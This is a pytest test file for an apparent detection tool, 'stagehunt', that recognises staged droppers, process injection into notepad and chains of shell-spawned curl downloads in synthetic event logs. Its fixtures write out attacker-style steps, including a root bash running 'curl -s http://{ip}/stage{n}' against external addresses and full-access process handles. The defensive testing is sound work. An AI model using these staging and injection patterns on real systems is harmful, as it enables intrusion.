"""staged_dropper, injected_stage and sibling_chain: positive cases and their near misses."""

from __future__ import annotations

import pytest
from builders import T0, access, conn, file_create, guid, minutes, start, write

from stagehunt import Config, hunt

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
NOTEPAD = r"C:\Windows\System32\notepad.exe"
STAGE2 = r"C:\Users\bob\AppData\Local\Temp\stage2_test.exe"


def run(tmp_path, events, **overrides):
    cfg = Config().with_overrides(**overrides) if overrides else Config()
    return hunt([write(tmp_path / "ev.jsonl", events)], cfg)


def of_type(findings, kind):
    return [f for f in findings if f.detection_type == kind]


def dropper(second_stage_ip: str | None) -> list[dict]:
    ps, s2 = guid(), guid()
    evs = [start(T0, PS, 40, pg=ps), conn(T0 + minutes(1), PS, 40, "8.8.8.8", pg=ps),
           file_create(T0 + minutes(2), PS, 40, STAGE2, pg=ps),
           start(T0 + minutes(3), STAGE2, 41, pg=s2, pguid=ps, ppid=40, parent_image=PS)]
    if second_stage_ip:
        evs.append(conn(T0 + minutes(4), STAGE2, 41, second_stage_ip, pg=s2))
    return evs


def test_staged_dropper_found(tmp_path):
    [f] = of_type(run(tmp_path, dropper("9.9.9.9")), "staged_dropper")
    assert (f.image, f.parent_image) == (STAGE2, PS)
    assert f.new_ips == ["9.9.9.9"] and f.parent_ip_list == ["8.8.8.8"]
    assert [e.kind for e in f.evidence[:3]] == ["file_create", "process_start", "network"]
    assert f.evidence[0].line == 3 and "wrote" in f.reasons[0]


@pytest.mark.parametrize("ip", [None, "8.8.8.8"])
def test_staged_dropper_near_misses(tmp_path, ip):
    """A dropped file that never connects, or reaches only what its writer reached: no finding."""
    assert of_type(run(tmp_path, dropper(ip)), "staged_dropper") == []


def injection(rights: str, notepad_before: str | None = None) -> list[dict]:
    ps, np = guid(), guid()
    evs = [start(T0, NOTEPAD, 50, pg=np), start(T0, PS, 51, pg=ps, pguid=np, ppid=50, parent_image=NOTEPAD),
           conn(T0 + minutes(1), PS, 51, "8.8.8.8", pg=ps),
           access(T0 + minutes(2), PS, 51, NOTEPAD, 50, rights, src_pg=ps, target_pg=np),
           conn(T0 + minutes(3), NOTEPAD, 50, "9.9.9.9", 9002, pg=np)]
    if notepad_before:
        evs.append(conn(T0 + minutes(1), NOTEPAD, 50, notepad_before, 9002, pg=np))
    return evs


@pytest.mark.parametrize("rights", ["0x1fffff", "0x1F3A", "0x20", "0x2"])
def test_injected_stage_found(tmp_path, rights):
    [f] = of_type(run(tmp_path, injection(rights)), "injected_stage")
    assert (f.image, f.parent_image) == (NOTEPAD, PS) and f.new_ips == ["9.9.9.9"]
    assert f.evidence[0].kind == "process_access" and rights in f.reasons[0]
    assert any("non-standard C2 port 9002" in r for r in f.reasons)


@pytest.mark.parametrize(("rights", "before"), [("0x1000", None), ("0x1410", None), ("0x10", None),
                                                ("0x1fffff", "9.9.9.9")])
def test_injected_stage_near_misses(tmp_path, rights, before):
    """Read-only access, or an address the target already reached before the access: no finding."""
    assert of_type(run(tmp_path, injection(rights, before)), "injected_stage") == []


def shell_chain(ips: list[str], parent: str = "/usr/bin/bash") -> list[dict]:
    sh = guid()
    evs = [start(T0, parent, 60, pg=sh, host="web1", user="root", cmd=f"{parent} -c 'curl ...; curl ...'")]
    for i, ip in enumerate(ips):
        g = guid()
        evs += [start(T0 + minutes(i), "/usr/bin/curl", 61 + i, pg=g, pguid=sh, ppid=60, parent_image=parent,
                      host="web1", user="root", cmd=f"curl -s http://{ip}/stage{i + 1}"),
                conn(T0 + minutes(i) + minutes(0.1), "/usr/bin/curl", 61 + i, ip, 80, pg=g, host="web1", user="root")]
    return evs


def test_sibling_chain_found(tmp_path):
    [f] = of_type(run(tmp_path, shell_chain(["44.204.18.94", "3.91.12.7"])), "sibling_chain")
    assert f.parent_image == "/usr/bin/bash" and f.image == "/usr/bin/curl" and f.pid == 62
    assert f.ip_list == ["44.204.18.94", "3.91.12.7"] and f.unique_external_ips == 2
    assert "ran 2 stages" in f.reasons[0]


@pytest.mark.parametrize(("ips", "parent"), [(["44.204.18.94", "44.204.18.94"], "/usr/bin/bash"),
                                             (["44.204.18.94", "3.91.12.7"], "/usr/lib/systemd/systemd")])
def test_sibling_chain_near_misses(tmp_path, ips, parent):
    """Two curls to the same address, or siblings under a non-shell parent: no chain."""
    assert of_type(run(tmp_path, shell_chain(ips, parent)), "sibling_chain") == []


def test_a_parents_handle_to_its_child_is_not_injection(tmp_path):
    """DCOM's svchost starts EXCEL.EXE and holds a full-access handle to it: process creation, not injection."""
    svc, xl = guid(), guid()
    excel = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
    svchost = r"C:\Windows\System32\svchost.exe"
    evs = [start(T0, svchost, 900, pg=svc), start(T0 + minutes(1), excel, 901, pg=xl, pguid=svc, ppid=900,
                                                 parent_image=svchost),
           access(T0 + minutes(1), svchost, 900, excel, 901, "0x1fffff", src_pg=svc, target_pg=xl),
           conn(T0 + minutes(2), excel, 901, "52.109.6.5", pg=xl)]
    assert of_type(run(tmp_path, evs), "injected_stage") == []
